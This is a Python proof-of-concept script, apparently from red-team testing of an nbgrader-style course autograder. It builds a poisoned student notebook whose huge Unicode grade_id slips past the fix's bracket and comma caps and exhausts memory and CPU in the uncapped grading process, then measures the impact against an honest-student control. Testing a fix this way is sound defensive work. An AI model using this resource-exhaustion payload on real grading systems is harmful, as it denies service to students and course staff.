"""a01: re-attack of round 23's fix (a hand-in's notebook is refused before anything reads it past 64 MiB, 200,000
"[" / "{" or 300,000 ","; the grading command's own process has no data cap). The caps count brackets and commas,
not characters: one JSON string of ~33 million two-byte UTF-8 characters (U+0100, "Ā": not Latin-1, so not one
of CPython's cached one-character strings) is a 63 MiB notebook with a handful of commas. Put as the grade_id of
one cell's nbgrader metadata, it reaches `nbgrader_metadata_refusal` in the grading command's own process, which
computes `shown = printable(repr(gid))[:60]` *before* it looks at the id: printable() is
"".join(c if c.isprintable() else ... for c in text), a Python loop that materialises a list of 33 million new
one-character str objects (76 bytes each + 8 bytes of list slot): ~2.8 GiB held and seconds of CPU in the one
process that is capped by nothing, for a hand-in that is refused anyway.
Measured: peak RSS (VmHWM) of the grading command's own process and its CPU, vs the control (two honest students).
Through `python -m grader.grade --course-dir DIR --workers 1`, mallory + an honest student (control)."""
import json, os, sys, threading, time
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from common24 import *  # noqa
from common24 import GRADER, ROOT, PY, _descends  # noqa

A = "ps1_memory"
CH = os.environ.get("CH", "\u0100")
MIB = float(os.environ.get("MIB", "63"))


class Peak(threading.Thread):
    def __init__(self):
        super().__init__(daemon=True)
        self.stop, self.top, self.cpu, self.other, self.who = False, 0, 0.0, 0, ""

    def run(self):
        tck = os.sysconf("SC_CLK_TCK")
        while not self.stop:
            top = GRADER.get("pid")
            for p in os.listdir("/proc"):
                if not p.isdigit() or top is None or not _descends(int(p), top):
                    continue
                try:
                    hwm = next(int(l.split()[1]) << 10 for l in open(f"/proc/{p}/status") if l.startswith("VmHWM"))
                    if int(p) == top:
                        self.top = max(self.top, hwm)
                        st = open(f"/proc/{p}/stat").read().rsplit(")", 1)[1].split()
                        self.cpu = max(self.cpu, (int(st[11]) + int(st[12])) / tck)
                    elif hwm > self.other:
                        self.other = hwm
                        self.who = open(f"/proc/{p}/cmdline", "rb").read().replace(b"\0", b" ").decode()[:60].replace(ROOT, "<clone>")
                except (OSError, StopIteration):
                    pass
            time.sleep(0.05)


def poison(path):
    nb = json.load(open(path))
    nb["cells"].insert(1, {"cell_type": "markdown", "id": "zz-x", "metadata": {"nbgrader": {"grade_id": "@@", "grade": False, "solution": False, "locked": False, "schema_version": 3}}, "source": "x"})
    text = json.dumps(nb)
    n = int((MIB * 2**20 - len(text)) // len(CH.encode()))
    with open(path, "w", encoding="utf-8") as fh:
        fh.write(text.replace('"@@"', '"' + CH * n + '"'))
    raw = open(path, "rb").read()
    print(f"mallory's notebook: {len(raw)} bytes, {raw.count(b',')} commas, {raw.count(b'[') + raw.count(b'{')} brackets, gid of {n:,} chars U+{ord(CH):04X}", flush=True)


def run(tag, students, bad, workers=1):
    dest = f"/tmp/attack24-a01-{tag}"
    course(dest, students, A)
    for s in bad:
        poison(os.path.join(dest, "submitted", s, A, f"{A}.ipynb"))
    pk = Peak(); pk.start()
    t = time.time()
    if workers == 1:
        rc = grade(dest)
    else:  # the same grading command with --workers N
        import subprocess
        cmd = [PY, "-m", "grader.grade", "--course-dir", dest, "--workers", str(workers)]
        print("$", " ".join(c.replace(ROOT, "<clone>") for c in cmd), flush=True)
        proc = subprocess.Popen(cmd, cwd=ROOT, env={**os.environ, **CANARY_ENV}, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
        GRADER["pid"] = proc.pid
        out, err = proc.communicate(timeout=1500)
        rc = proc.returncode
        print(out[-1500:].replace(ROOT, "<clone>"), err[-1500:].replace(ROOT, "<clone>"), flush=True)
    pk.stop = True
    sc = scores(dest)
    print(f"RESULT {tag}: rc={rc} {time.time() - t:.0f} s; grading command's own process: peak RSS {pk.top >> 20} MiB, "
          f"{pk.cpu:.1f} CPU-s; largest other process {pk.other >> 20} MiB ({pk.who}); "
          f"scores {[(s, v['score'], v['max']) for s, v in sorted(sc.items())]}", flush=True)
    rp = os.path.join(dest, "grading_report.json")
    if os.path.exists(rp):
        print(open(rp).read()[:1200].replace(ROOT, "<clone>"))
    cleanup(dest)


def main():
    h = honest(A)
    if os.environ.get("BASE", "1") == "1":
        run("base", {"aa_honest": h, "zz_honest": h}, [])
    if os.environ.get("TWO"):  # two such hand-ins under --workers 2 (MIB lowered to stay within this machine's budget)
        run("two", {"mallory": h, "mallory2": h, "zz_honest": h}, ["mallory", "mallory2"], workers=2)
        return
    run("attack", {"mallory": h, "zz_honest": h}, ["mallory"])


if __name__ == "__main__":
    main()
